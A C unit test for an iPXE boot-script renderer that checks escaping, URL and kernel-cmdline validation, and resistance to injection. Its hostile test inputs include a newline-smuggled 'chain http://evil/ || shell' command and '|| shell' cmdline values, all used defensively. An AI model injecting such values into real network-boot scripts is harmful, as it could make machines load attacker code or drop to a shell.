/* test_ipxe: the iPXE renderer's escaping and its injection-proof property
 * (server/ipxe.c): for many hostile values, the rendered stage1 script has
 * exactly the lines and command words of the script rendered with benign
 * values, and no iPXE special character outside the template's own. */
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "lib/err.h"
#include "server/ipxe.h"
#include "tests/test.h"

static const struct {
	const char *in;
	const char *out;
} esc_cases[] = {
	{ "", "" },
	{ "node1", "node1" },
	{ "a.b-c_d", "a.b-c_d" },
	{ "a b", "a%20b" },
	{ "${x}", "%24%7Bx%7D" },
	{ "a\nb", "a%0Ab" },
	{ "a||b", "a%7C%7Cb" },
	{ "a&&b", "a%26%26b" },
	{ "#!ipxe", "%23%21ipxe" },
	{ ":label", "%3Alabel" },
	{ "\"'\\", "%22%27%5C" },
	{ "%", "%25" },
	{ "~a", "~a" },
	{ "\xff\x01", "%FF%01" },
};

static void test_escape(void)
{
	char out[3 * IPXE_VALUE_MAX + 1], big[IPXE_VALUE_MAX + 2];
	size_t i;

	for (i = 0; i < sizeof(esc_cases) / sizeof(esc_cases[0]); i++) {
		int n = ipxe_escape(esc_cases[i].in, strlen(esc_cases[i].in), out, sizeof(out));

		ok(n == (int)strlen(esc_cases[i].out) && !strcmp(out, esc_cases[i].out),
		   "escape case %zu -> '%s'", i, out);
	}
	memset(big, 'a', sizeof(big));
	ok(ipxe_escape(big, IPXE_VALUE_MAX, out, sizeof(out)) == IPXE_VALUE_MAX, "value at cap");
	ok(ipxe_escape(big, IPXE_VALUE_MAX + 1, out, sizeof(out)) == -EPX_E_IPXE_FIELD,
	   "value over cap refused");
	ok(ipxe_escape("a b", 3, out, 5) == -EPX_E_CODEC_SPACE, "small output buffer refused");
	ok(ipxe_escape("\0x", 2, out, sizeof(out)) == 4 && !strcmp(out, "%00x"),
	   "NUL escaped, length honoured");
}

static const struct {
	const char *url;
	int want;
} url_cases[] = {
	{ "http://10.0.2.100:8080", 1 },
	{ "http://epoxy.test", 1 },
	{ "http://[fd00::1]:8080", 1 },
	{ "https://epoxy.test", 0 },
	{ "http://", 0 },
	{ "http://a/b", 0 },
	{ "http://a b", 0 },
	{ "http://a${x}", 0 },
	{ "http://user@a", 0 },
	{ "ftp://a", 0 },
	{ "", 0 },
};

static const struct {
	const char *s;
	int want;
} cmdline_cases[] = {
	{ "console=ttyS0 epoxy.server=epoxy.test epoxy.addr=10.0.2.100 epoxy.port=8443 epoxy.stage=1", 1 },
	{ "quiet", 1 },
	{ "root=/dev/sda1 ro", 1 },
	{ "", 0 },
	{ " quiet", 0 },
	{ "quiet ", 0 },
	{ "a  b", 0 },
	{ "a\nboot", 0 },
	{ "a ${x}", 0 },
	{ "a || shell", 0 },
	{ "a && shell", 0 },
	{ "a -n", 0 },
	{ "-n", 0 },
	{ "a #c", 0 },
	{ "a \"b\"", 0 },
};

static void test_checks(void)
{
	size_t i;

	for (i = 0; i < sizeof(url_cases) / sizeof(url_cases[0]); i++)
		ok(ipxe_url_ok(url_cases[i].url) == url_cases[i].want, "url '%s' -> %d",
		   url_cases[i].url, url_cases[i].want);
	for (i = 0; i < sizeof(cmdline_cases) / sizeof(cmdline_cases[0]); i++)
		ok(ipxe_cmdline_ok(cmdline_cases[i].s, strlen(cmdline_cases[i].s)) ==
		   cmdline_cases[i].want, "cmdline case %zu -> %d", i, cmdline_cases[i].want);
}

/* Splits the script into lines; returns the number of lines and writes a
 * signature per line: first word plus the number of words. */
static int script_shape(const char *s, char sig[][48], int max)
{
	int n = 0;

	while (*s && n < max) {
		const char *nl = strchr(s, '\n');
		size_t len = nl ? (size_t)(nl - s) : strlen(s);
		size_t i, words = 0, first = 0;

		for (i = 0; i < len; i++)
			if (s[i] != ' ' && (i == 0 || s[i - 1] == ' ')) {
				words++;
				if (words == 1)
					for (first = i; first < len && s[first] != ' '; first++)
						;
			}
		snprintf(sig[n], 48, "%.*s/%zu", (int)(first < 30 ? first : 30), s, words);
		if (s[0] == '#' || s[0] == ':')
			snprintf(sig[n], 48, "%.*s", (int)(len < 40 ? len : 40), s);
		n++;
		s += len + (nl ? 1 : 0);
	}
	return n;
}

static const char *const hostile[] = {
	"x\nchain http://evil/ || shell",
	"${net0/ip}",
	"a b c d e f",
	"#!ipxe",
	":try0",
	"-n",
	"||",
	"&&",
	"goto giveup",
	"\r\nboot",
	"\"quoted\"",
	"\\",
	"%0a",
	"\xff\xfe\x00",
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
};

static void test_render(void)
{
	static char ref[IPXE_SCRIPT_MAX], got[IPXE_SCRIPT_MAX];
	static char sref[64][48], sgot[64][48];
	struct ipxe_stage1 p = {
		.boot_url = "http://10.0.2.100:8080", .host = "node1", .mac = "52-54-00-12-34-56",
		.uuid = "u", .serial = "s", .platform = "efi", .buildarch = "x86_64",
		.retry_s = 7, .tries = 3,
	};
	size_t i, f;
	int nref, ngot, n, j, same;

	n = ipxe_render_stage1(&p, ref, sizeof(ref));
	ok(n > 0 && !strncmp(ref, "#!ipxe\n", 7), "stage1 renders");
	nref = script_shape(ref, sref, 64);
	for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		for (f = 0; f < 5; f++) {
			struct ipxe_stage1 q = p;
			const char **field = f == 0 ? &q.host : f == 1 ? &q.mac : f == 2 ? &q.uuid :
				f == 3 ? &q.serial : &q.buildarch;

			*field = hostile[i];
			n = ipxe_render_stage1(&q, got, sizeof(got));
			ngot = script_shape(got, sgot, 64);
			same = n > 0 && ngot == nref;
			for (j = 0; same && j < nref; j++)
				same = !strcmp(sref[j], sgot[j]);
			ok(same, "hostile value %zu in field %zu keeps the script's commands", i, f);
			ok(!strstr(got, "${net0/ip}") && !strstr(got, "evil/ ||"),
			   "hostile value %zu in field %zu only escaped", i, f);
		}
	}
	p.platform = "pcbios";
	p.cmdline = "console=ttyS0 quiet";
	n = ipxe_render_stage1(&p, got, sizeof(got));
	ok(n > 0 && strstr(got, "\nkernel http://10.0.2.100:8080/boot/stage1/vmlinuz console=ttyS0 quiet || goto fail0\n") &&
	   strstr(got, "\ninitrd http://10.0.2.100:8080/boot/stage1/initramfs || goto fail0\n"),
	   "pcbios path boots kernel and initrd");
	p.cmdline = "quiet || shell";
	ok(ipxe_render_stage1(&p, got, sizeof(got)) == -EPX_E_IPXE_FIELD, "hostile cmdline refused");
	p.cmdline = NULL;
	ok(ipxe_render_stage1(&p, got, sizeof(got)) == -EPX_E_IPXE_FIELD, "pcbios without cmdline refused");
	p.platform = "efi";
	p.boot_url = "http://a b";
	ok(ipxe_render_stage1(&p, got, sizeof(got)) == -EPX_E_IPXE_FIELD, "bad boot URL refused");
	p.boot_url = "http://10.0.2.100:8080";
	ok(ipxe_render_stage1(&p, got, 64) == -ENOSPC, "short buffer: -ENOSPC, no overflow");
	p.tries = 100;
	n = ipxe_render_stage1(&p, got, sizeof(got));
	ok(n > 0 && strstr(got, ":try7\n") && !strstr(got, ":try8\n"), "tries capped at 8");
	n = ipxe_render_stage0("http://10.0.2.100:8080", got, sizeof(got));
	ok(n > 0 && strstr(got, "chain --autofree http://10.0.2.100:8080/boot/stage1.ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}&platform=${platform}&buildarch=${buildarch} || goto failed\n"),
	   "stage0 chains stage1.ipxe with iPXE's settings");
	ok(ipxe_render_stage0("http://x y", got, sizeof(got)) == -EPX_E_IPXE_FIELD, "stage0 bad URL refused");
}

int main(void)
{
	test_escape();
	test_checks();
	test_render();
	return test_done();
}
